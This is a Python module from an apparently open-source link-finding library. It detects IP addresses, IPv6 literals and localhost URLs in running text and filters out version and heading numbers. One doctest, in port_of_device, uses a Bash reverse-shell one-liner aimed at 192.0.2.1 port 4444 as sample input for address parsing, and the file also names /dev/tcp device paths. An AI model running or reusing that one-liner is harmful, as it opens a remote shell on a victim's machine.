r"""IP addresses without a scheme: `192.0.2.1:8080/x`, `[2001:db8::1]`, `2001:db8::1`; `localhost` with a port or path.

Most text that looks like one is a version or section number, as the text around it shows. Text that is not an address
is not matched, so there is no note.
"""

import re
from collections.abc import Iterator
from string import digits

from linksift.finding.match import Candidate, SkipTo, Step
from linksift.finding.scan.authority import host
from linksift.finding.scan.character_roles import UNSPACED_LETTERS
from linksift.finding.scan.lookback import run_of
from linksift.finding.scan.names.www_names import BEFORE_UNC_PATH, NOT_AFTER, host_of_share, name_up_to, read_after_host
from linksift.finding.scan.running_text import start_scan
from linksift.finding.scan.scanned_text import ScannedText, ScanState
from linksift.finding.scan.triggers import NO_ADDRESS_FOR_PORT
from linksift.lazy_pattern import lazy_pattern
from linksift.notes import rule
from linksift.registries import domain_lookalikes, written_without_spaces
from linksift.uri import DOTTED_QUAD, IP_LITERAL

_AFTER = r"(?![A-Za-z0-9_\-版]|[节節章条條款项項](?![点點目件记記])|\.\w|\.\.\w)"
"""Text that never follows an address: more of a number or, in Chinese and Japanese, the word for a section or version.
A longer word such as 节点 (node) may follow."""

FOUR_PARTS = rf"\.(?<=[0-9]\.)[0-9]{{1,3}}+\.[0-9]{{1,3}}+\.[0-9]{{1,3}}+{_AFTER}"
_GROUP = "[0-9A-Fa-f]{1,4}"
_NO_SLICE = r"(?!(?!::1\])[0-9]*::[0-9]*\](?!:[0-9]|/))"
IN_BRACKETS = (
    rf"\[(?:(?<![{NOT_AFTER})\]]\[)|(?<=[{UNSPACED_LETTERS}]\[)){_NO_SLICE}"
    rf"(?=(?:{_GROUP}:){{6}}|(?:{_GROUP}:){{0,6}}:)[0-9A-Fa-f:.]{{2,46}}\]"
)
_STARTS = rf"(?:(?<![{NOT_AFTER}]localhost)|(?<=[{UNSPACED_LETTERS}]localhost))"
_LOCALHOST = rf"localhost{_STARTS}(?=:{NO_ADDRESS_FOR_PORT}[0-9]{{1,5}}+(?![A-Za-z0-9_\-])|/)"
_EIGHT_GROUPS = rf":(?<=[0-9A-Fa-f]:){_GROUP}:{_GROUP}:{_GROUP}:{_GROUP}:{_GROUP}:{_GROUP}:[0-9A-Fa-f]"
_AFTER_TWO_GROUPS = "|".join(rf"(?<=:{'[0-9A-Fa-f]' * length}::)" for length in range(1, 5))
"""Two groups or more before two colons: a look-behind has a fixed length, so there is one for each length of group."""

_ENDS_GROUP = rf"(?!(?![{UNSPACED_LETTERS}])\w|[:%@\-]|\.\w)"
_ENDS_IN_ZEROS = rf"(?:{_AFTER_TWO_GROUPS}){_ENDS_GROUP}"
_SHORTENED = rf"::(?:(?=(?:{_GROUP}|/[0-9]{{1,3}})(?![A-Za-z0-9_]))|{_ENDS_IN_ZEROS})"
BARE_IPV6 = (_SHORTENED, _EIGHT_GROUPS)
TRIGGERS = (FOUR_PARTS, IN_BRACKETS, _LOCALHOST, *BARE_IPV6)
"""The first dot of four numbers; six groups of hexadecimal digits or two colons in a row in brackets, but not a time or
a slice of an array; `localhost` with a port or path; and two colons, or the first of seven, in an IPv6 address without
brackets. It ends in two colons only after two groups or before a prefix length, since a word may do so elsewhere
(`2016::` before an example). Kana, Han and Hangul before an address are prose.

The pattern that begins with one colon does not restrict what follows the digits, since the prefilter searches for it
(see `prefilter._SEARCHED`).
"""

IN_IPV6 = "0123456789abcdefABCDEF:"
LONGEST_IPV6 = len("ffff:" * 7 + "255.255.255.255")
"""The length of the longest IPv6 address, with the end of a label before it."""

_IPV6 = lazy_pattern(
    rf"(?:[0-9A-Fa-f]{{0,4}}:)+(?:(?=/[0-9])|(?:{DOTTED_QUAD}|{_GROUP}){_ENDS_GROUP})|"
    rf"(?=[0-9:]*[A-Fa-f])(?:{_GROUP}:){{2,}}:{_ENDS_GROUP}"
)
"""Text that may be an IPv6 address without brackets, perhaps with an IPv4 address at its end; `ipaddress` decides. One
that ends in two colons has a letter, unlike the numbers in the rows of `/etc/passwd` and in slices of arrays. Prose
without spaces may be next to it."""

_LETTER_BEFORE = lazy_pattern(rf"(?![{UNSPACED_LETTERS}])\w")
_END_OF_LABEL = lazy_pattern("(?:[0-9A-Fa-f]{1,2}|[A-Fa-f]{0,4}):")
"""The end of a label that ends in hexadecimal digits, `IPv6:` or `node:`; `x2001:` may be a group after a letter."""

_IP_LITERAL = lazy_pattern(IP_LITERAL)
_TELLING = lazy_pattern(r"(?=[0-9A-Fa-f]{0,3}[0-9])[0-9A-Fa-f]{3,4}(?![0-9A-Fa-f])|\.")
"""A feature that distinguishes an address from a name with two colons in code: a group of three or more characters with
a digit, or four decimal parts."""

LONGEST_NUMBER = 3
_NUMBER = "(?:25[0-5]|2[0-4][0-9]|1[0-9]{2}|[1-9]?[0-9])"
_BEFORE_BACKSLASHES = re.escape(BEFORE_UNC_PATH.replace(":", ""))
_AFTER_BACKSLASHES = "|".join(rf"(?<=\\{{{count}}})(?<![^{_BEFORE_BACKSLASHES}]\\{{{count}}})" for count in (2, 4))
"""The place of the host in a Windows path, `\\\\192.0.2.1\\b`, also with escaped backslashes. After a drive and its
colon, four numbers are a version (`C:\\\\4.0.0.0`), while a domain may follow a label (`Root:\\\\a.example`)."""

_DEVICES = ("/dev/tcp/", "/dev/udp/", "/ip4/")
_NAMES_BEFORE_SLASH = (*_DEVICES, "localhost/", "DIRECT/", "_PARENT/", "_HIT/", "_DST/")
_AFTER_NAME_AND_SLASH = "|".join(f"(?<={name})" for name in _NAMES_BEFORE_SLASH)
_BEGINS_WORD = r"(?<![^\s=(\[<,:]/)"
"""The place after a slash that begins a word."""

_AFTER_SLASH = rf"(?<=/)(?:{_BEGINS_WORD}|{_AFTER_NAME_AND_SLASH})"
_STARTS_NUMBERS = rf"(?:(?<![{NOT_AFTER}])|(?<=[@{UNSPACED_LETTERS}])|(?<=\\[nrt])|{_AFTER_BACKSLASHES}|{_AFTER_SLASH})"
FOUR_NUMBERS = rf"{_STARTS_NUMBERS}(?:0\.0\.0\.0|(?!0\.){_NUMBER}(?:\.{_NUMBER}){{3}})"
r"""The first of the four numbers is 0 only in 0.0.0.0 (RFC 6890, 2.2.2). The escape of a line end or tab may precede
it, as in the strings of source code, `192.0.2.1\n192.0.2.2`, and so may a user: `ssh root@192.0.2.1`, the name of a
device or a multiaddr: `/dev/tcp/192.0.2.1/443`, `/ip4/192.0.2.1/tcp/1`, the way that Squid took: `DIRECT/192.0.2.1`, or
a slash alone, as Java writes an address without a name: `from /192.0.2.1:4711`."""

_FOUR_NUMBERS = lazy_pattern(FOUR_NUMBERS)
_NO_ADDRESS_AFTER = lazy_pattern(rf"(?![{UNSPACED_LETTERS}])[{NOT_AFTER}]")
_PAIRS = lazy_pattern(r"[0-9A-Fa-f]{2}(?::[0-9A-Fa-f]{2})*")
"""An extended MAC address."""

_ALONE = r"(?![\w\-/?#%&=]|\.\w)"
NUMBER_AFTER = rf"[/#][0-9]{{1,5}}+{_ALONE}"
"""A number after an address that is not part of it: a prefix length, or a port after a slash or number sign."""

_PREFIX_LENGTH = lazy_pattern(rf"/[0-9]{{1,2}}+{_ALONE}")
_PREFIX_LENGTH_OF_IPV6 = lazy_pattern(r"/[0-9]{1,3}(?![\w/])")
_PORT_AFTER_SLASH = lazy_pattern(rf"/[0-9]{{3,5}}+{_ALONE}")
_PORT_AFTER_HASH = lazy_pattern(rf"#[0-9]{{1,5}}+{_ALONE}")
_FIRST_IN_PATH = lazy_pattern(rf"{_BEGINS_WORD}(?<=/)[0-9.]{{7,15}}(?::[0-9]{{1,5}})?/")
"""Text that looks like an address but is the first segment of a path: `/192.0.2.1/b`."""

_HOST_AND_ADDRESS = lazy_pattern(r"localhost/[0-9]{1,3}\.[0-9]{1,3}\.")

FARTHEST_BEFORE = 32
"""The greatest distance before an address at which its line may begin or a word may show that it is a version."""

LEADS_TO_NUMBER = " \t\n\r\v\f\x1c\x1d\x1e\x1f\"'`(=:#.<*/;%>|"
"""The ASCII characters that may separate a number from what introduces it, or precede it on its line; the kernel goes
back over them to find the word or the line's end."""

_WORD_BEFORE = lazy_pattern(r"([^\W\d_]+)[.:]?[\s\"'`(=:#]{0,3}\Z")
LONGEST_UNSPACED_WORD = len("バージョン")
_COMPARED = lazy_pattern(r"(?:(?:[<>~!]=|<<|\w==)[ \"']{0,2}|\|[ \t]{0,8}<[ ])\Z")
"""A comparison; a `<` alone is one only in the cell of a table, as in lists of vulnerable versions."""

_ESCAPE = lazy_pattern(r"(?:\\[nrt])+\Z")
"""The escapes of line ends and tabs directly before a number in a string: `"Version\\n7.2.1.3"`."""

_LINE_BEFORE = lazy_pattern(r"(?:\A|[\n\r\f])[\s#*/;%>|]*+\Z")
HEADING = r"(?!10\.)(?:[1-9][0-9]?\.){3}[1-9][0-9]?(?:\.?[ \t]{1,8}+[A-Z]\w|\.[ \t]{1,8}+\S)"
"""A heading after its number in four parts: `1.2.3.4 Results`. Addresses that begin with `10.` are private."""

_HEADING = lazy_pattern(HEADING)


def ip_addresses(source: ScannedText, hit: re.Match[str]) -> Iterator[Candidate | SkipTo]:
    """The address at a trigger's hit, with its port, path and so on."""
    if hit.start() < source.plain_name_end:
        return
    if hit[0].startswith(":"):
        yield from bare_ipv6(source, hit.start())
        return
    start = address_start(source.text, hit)
    if start < source.position:
        return
    if (candidate := address_at(source, start, source.default_scheme)) is not None:
        yield candidate


def address_at(source: ScannedText, start: int, scheme: str) -> Candidate | SkipTo | None:
    """The address at `start`, with its port, path and so on; the scheme is added to it."""
    state = start_scan(source, start)
    shared = host_of_share(state)
    if shared >= 0:
        return name_up_to(state, shared, "ip", scheme)
    end = host(state, start)
    if end < 0:
        return None
    for ending in (port_of_device, prefix_length, port_after_slash, port_after_hash):
        end = end if state.ended_by else ending(state, end)
    return name_up_to(state, read_after_host(state, end), "ip", scheme)


def bare_ipv6(source: ScannedText, colon: int) -> Iterator[Candidate]:
    """The IPv6 address without brackets around a colon; it has no port or path (RFC 4291, 2.2). A label and its colon
    may precede it, as in mail (RFC 5321, 4.1.3; RFC 7208, 5.6).

    >>> [match.uri for match in linksift.find("[IPv6:2001:db8::7] [2001:db8::/32], not a::b", kinds={"ip"})]
    ['http://[2001:db8::7]', 'http://[2001:db8::]']
    """
    text = source.text
    start = colon - len(run_of(text, colon, LONGEST_IPV6, IN_IPV6))
    label = _END_OF_LABEL.match(text, start) if _LETTER_BEFORE.match(text[start - 1 : start]) else None
    start = label.end() if label else start
    found = _IPV6.match(text, start, start + LONGEST_IPV6 + 1)
    if found is None or start < source.position or _NO_ADDRESS_AFTER.match(text[start - 1 : start]):
        return
    address, end = found[0], found.end()
    if text[start - 1 : start] == "[" and not _PREFIX_LENGTH_OF_IPV6.match(text, end):
        return  # the bracket belongs to an IP literal
    is_telling = _TELLING.search(address) if "::" in address else _PAIRS.fullmatch(address) is None
    if is_telling and _IP_LITERAL.fullmatch(f"[{address}]"):
        remarks = (Step(prefix_length, end, end + 1, None),) if text.startswith("/", end) else ()
        prefix = f"{source.default_scheme}://["
        yield Candidate(start, address, no_trim=True, remarks=remarks, kind="ip", prefix=prefix)


def address_start(text: str, hit: re.Match[str]) -> int:
    """The start of the address at a trigger's hit; -1 if it is something else.

    >>> hits = [(text, re.search(FOUR_PARTS, text)) for text in ("see 192.0.2.1", "v192.0.2.1", "192.0.2.256")]
    >>> [address_start(text, hit) for text, hit in hits]
    [4, -1, -1]
    """
    start = hit.start()
    if text[start] == "[":
        return start
    if text[start] == "l":
        return -1 if _HOST_AND_ADDRESS.match(text, start) else start
    start -= len(run_of(text, start, LONGEST_NUMBER, digits))
    is_in_path = _FIRST_IN_PATH.match(text, start)
    is_address = _FOUR_NUMBERS.fullmatch(text, start, hit.end()) and not is_in_path
    return start if is_address and not is_other_number(text, start) else -1


def is_other_number(text: str, start: int) -> bool:
    r"""Whether the four numbers at `start` are a version or a section number.

    >>> texts = ("Version 7.2.1.3", r"Version\n7.2.1.3", "(>= 7.2.1.3)", "4.2.1.3 Scope", "7.2.1.3 answers")
    >>> [is_other_number(text, re.search("[0-9]", text).start()) for text in texts]
    [True, True, True, True, False]
    """
    introduced = introduces(_ESCAPE.sub("\n", text[max(0, start - FARTHEST_BEFORE) : start]))
    return introduced == OTHER_NUMBER or (introduced == LINE and _HEADING.match(text, start) is not None)


def is_word_for_number(word: str) -> bool:
    """Whether a word introduces a version or section number; one of two characters or more that is written without
    spaces may end a phrase.

    >>> [is_word_for_number(word) for word in ("version", "from", "当前版本", "第", "列表")]
    [True, False, True, True, False]
    """
    words = domain_lookalikes("number")
    if word in words or not written_without_spaces(word[-1]):
        return word in words
    return any(word[-length:] in words for length in range(2, LONGEST_UNSPACED_WORD + 1))


ANY_NUMBER, OTHER_NUMBER, LINE = 0, 1, 2


def introduces(before: str) -> int:
    """What a text introduces: a version or section number, if it ends in a word for one, a section sign or a
    comparison; the text of a line, which may be a heading, if only a prefix precedes that; or any number.

    >>> [introduces(before) for before in ("Version ", "see \N{SECTION SIGN} ", "(>= ", "from ", "\\n# ")]
    [1, 1, 1, 0, 2]
    """
    word = _WORD_BEFORE.search(before)
    is_named = word is not None and is_word_for_number(word[1].lower())
    if is_named or before.rstrip().endswith("§") or _COMPARED.search(before):
        return OTHER_NUMBER
    return LINE if _LINE_BEFORE.search(before) else ANY_NUMBER


@rule
def prefix_length(state: ScanState, end: int) -> int:
    """A slash and a number of one or two digits after an IP address are a prefix length (RFC 4632, 3.1).

    After an IPv6 address without brackets, every slash begins a prefix length.

    >>> found("Block 192.0.2.0/24, not 192.0.2.1/24/x", kinds={"ip"})
    ['http://192.0.2.0', 'http://192.0.2.1/24/x']
    """
    return state.end(prefix_length, end) if _PREFIX_LENGTH.match(state.text, end) else end


@rule
def port_after_slash(state: ScanState, end: int) -> int:
    """A slash and a number of three to five digits after an IP address are a port, as Cisco's firewalls write it.

    >>> found("from outside:192.0.2.1/443 (192.0.2.1/443), not 192.0.2.1/443/b", kinds={"ip"})
    ['http://192.0.2.1', 'http://192.0.2.1', 'http://192.0.2.1/443/b']
    """
    return state.end(port_after_slash, end) if _PORT_AFTER_SLASH.match(state.text, end) else end


@rule
def port_after_hash(state: ScanState, end: int) -> int:
    """A number sign and a number after an IP address are a port, as name servers write it (dig, dnsmasq, BIND's logs).

    >>> found("SERVER: 192.0.2.1#53(192.0.2.1), not 192.0.2.1/b#53", kinds={"ip"})
    ['http://192.0.2.1', 'http://192.0.2.1', 'http://192.0.2.1/b#53']
    """
    return state.end(port_after_hash, end) if _PORT_AFTER_HASH.match(state.text, end) else end


@rule
def port_of_device(state: ScanState, end: int) -> int:
    """The text after an IP address in a device of Bash (Bash Reference Manual, 3.6) or in a multiaddr is not a path.

    >>> found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 and /ip4/192.0.2.2/tcp/1", kinds={"ip"})
    ['http://192.0.2.1', 'http://192.0.2.2']
    """
    is_device = state.text.startswith("/", end) and state.text.endswith(_DEVICES, 0, state.start)
    return state.end(port_of_device, end) if is_device else end
